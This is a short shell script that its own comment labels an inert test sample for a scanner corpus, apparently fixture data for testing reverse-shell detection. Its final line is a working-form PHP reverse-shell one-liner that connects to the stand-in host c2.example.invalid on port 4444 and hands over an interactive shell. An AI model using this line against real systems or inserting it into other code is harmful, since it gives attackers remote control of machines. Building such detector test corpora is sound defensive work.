# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
php -r '$sock=fsockopen("c2.example.invalid",4444);exec("/bin/sh -i <&3 >&3 2>&3");'
